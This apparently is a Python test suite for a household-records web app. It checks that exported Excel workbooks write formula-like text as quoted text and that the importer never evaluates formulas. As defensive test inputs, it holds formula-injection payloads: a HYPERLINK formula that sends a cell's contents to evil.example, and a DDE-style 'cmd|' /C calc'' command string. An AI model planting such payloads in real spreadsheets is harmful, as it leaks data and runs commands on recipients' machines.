"""Issue 21, item 1: no workbook the server makes carries a formula. Text beginning with `=`, `+`, `-`,
`@`, a tab or a carriage return is written as a text cell with Excel's quote prefix (one rule,
`app/core/cells.py`), in the household list, the personal-data file, the award's list and a report;
the importer reads such a cell back as the same text and never evaluates it."""

import io
import re
import zipfile

from openpyxl import Workbook, load_workbook

from app.authz.permissions import Role
from app.core import cells
from app.households.imports.reading import open_table
from app.kpi import aggregates
from tests.roster import make_team
from tests.world import make_award

LINK = '=HYPERLINK("http://evil.example/?d="&C3,"bấm vào đây")'
FORMULAS = [LINK, "+84 912 345 678", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def formulas_in(content: bytes) -> list[str]:
    """The `<f>` elements of every sheet of a workbook: the formulas Excel would run."""
    book = zipfile.ZipFile(io.BytesIO(content))
    found = []
    for name in book.namelist():
        if name.startswith("xl/worksheets/"):
            found += re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>", book.read(name).decode())
    return found


def texts(content: bytes) -> dict[str, tuple[str, bool]]:
    """Each string cell's value with its type and quote prefix, over every sheet."""
    book = load_workbook(io.BytesIO(content))
    return {
        str(cell.value): (cell.data_type, cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_written_as_text(content: bytes, values: list[str]) -> None:
    assert formulas_in(content) == []
    found = texts(content)
    for value in values:
        shown = next((v for k, v in found.items() if value in k), None)
        assert shown is not None, (value, list(found))
        assert shown[0] == "s", value
    for text, (_, prefixed) in found.items():
        assert prefixed == text.startswith(cells.FORMULA_START), text


async def test_the_household_list_writes_formulas_as_text(client, world):
    headers = world.auth(Role.team_leader)
    made = {"head_name": LINK, "address": "@SUM(1+1)*cmd|' /C calc'!A0", "code": "-2+3", "note": "=1+1"}
    body = {"unit_id": str(world.v11.id), "phone": "+84 912 345 678"} | made
    assert (await client.post("/api/v1/households", json=body, headers=headers)).status_code == 201
    response = await client.get("/api/v1/households/export.xlsx", headers=world.auth(Role.commune_officer))
    assert response.status_code == 200
    assert_written_as_text(response.content, FORMULAS)
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert LINK in rows[1] and "=1+1" in rows[1]


async def test_the_exported_list_imports_back_as_the_same_text(client, world):
    """The officer's round trip: export, correct, import. A text cell beginning with `=` is read as its
    text (not as a formula, nor dropped); a real formula cell gives only what Excel last showed."""
    headers = world.auth(Role.team_leader)
    body = {"unit_id": str(world.v11.id), "head_name": LINK, "phone": "+84 912 345 678", "code": "-2+3"}
    assert (await client.post("/api/v1/households", json=body, headers=headers)).status_code == 201
    exported = (await client.get("/api/v1/households/export.xlsx", headers=headers)).content
    table = open_table(io.BytesIO(exported), "list.xlsx")
    try:
        rows = [cells_ for _, cells_ in table.rows]
    finally:
        table.close()
    assert LINK in rows[1] and "-2+3" in rows[1] and "+84 912 345 678" in rows[1]


def test_the_importer_never_evaluates_a_formula():
    book = Workbook()
    sheet = book.active
    sheet.append(["Họ tên chủ hộ", "Số điện thoại"])
    sheet.append(["=1+1", '=HYPERLINK("http://x","y")'])  # live formulas, no value Excel computed
    buffer = io.BytesIO()
    book.save(buffer)
    table = open_table(io.BytesIO(buffer.getvalue()), "list.xlsx")
    try:
        read = [cell for _, cells_ in table.rows for cell in cells_]
    finally:
        table.close()
    assert "Họ tên chủ hộ" in read and 2 not in read and "y" not in read


async def test_the_personal_data_file_writes_formulas_as_text(client, world):
    headers = world.auth(Role.team_leader)
    body = {
        "unit_id": str(world.v11.id),
        "head_name": LINK,
        "address": "-2+3",
        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    created = (await client.post("/api/v1/households", json=body, headers=headers)).json()
    url = f"/api/v1/households/{created['id']}/personal-data?format=xlsx"
    response = await client.get(url, headers=world.auth(Role.commune_officer))
    assert response.status_code == 200, response.text
    assert_written_as_text(response.content, [LINK, "-2+3", "@SUM(1+1)"])


async def test_the_award_list_writes_formulas_as_text(client, world, session):
    await make_team(session, world.v11, "=1+1")
    world.v12.name = LINK
    award = await make_award(session, world.c1)
    award.title = "+Khen thưởng"
    await aggregates.rebuild(session)
    await session.commit()
    response = await client.get(
        f"/api/v1/awards/{award.id}/export.xlsx", headers=world.auth(Role.commune_officer)
    )
    assert response.status_code == 200, response.text
    assert_written_as_text(response.content, [LINK, "=1+1", "+Khen thưởng"])


async def test_a_report_writes_its_sections_as_text(client, world):
    headers = world.auth(Role.team_leader)
    base = "/api/v1/kpi/snapshots"
    report = await client.post(
        base, json={"unit_id": str(world.v11.id), "period": "2026-06"}, headers=headers
    )
    assert report.status_code == 201, report.text
    sections = {"results": LINK, "difficulties": "-2+3", "proposals": FORMULAS[3]}
    written = await client.patch(f"{base}/{report.json()['id']}", json=sections, headers=headers)
    assert written.status_code == 200, written.text
    response = await client.get(f"{base}/{report.json()['id']}/export.xlsx", headers=headers)
    assert response.status_code == 200
    assert_written_as_text(response.content, [LINK, "-2+3", "@SUM(1+1)"])


def test_the_one_rule():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(cells.row(sheet, ["=1+1", "\t=2", "\r=3", "a=b", 5, None, "-", "plain"]))
    content = cells.save(book)
    assert formulas_in(content) == []
    found = texts(content)
    assert found["=1+1"] == ("s", True) and found["-"] == ("s", True) and found["a=b"] == ("s", False)
    assert found["plain"] == ("s", False)


def test_every_workbook_leaves_through_the_one_rule():
    """The class, not the instance: no module but `app/core/cells.py` saves an openpyxl workbook."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    saving = [
        str(path.relative_to(root))
        for folder in ("app", "api")
        for path in (root / folder).rglob("*.py")
        if "openpyxl" in (source := path.read_text(encoding="utf-8"))
        and re.search(r"(?<!cells)\.save\(", source)
    ]
    assert saving == ["app/core/cells.py"]
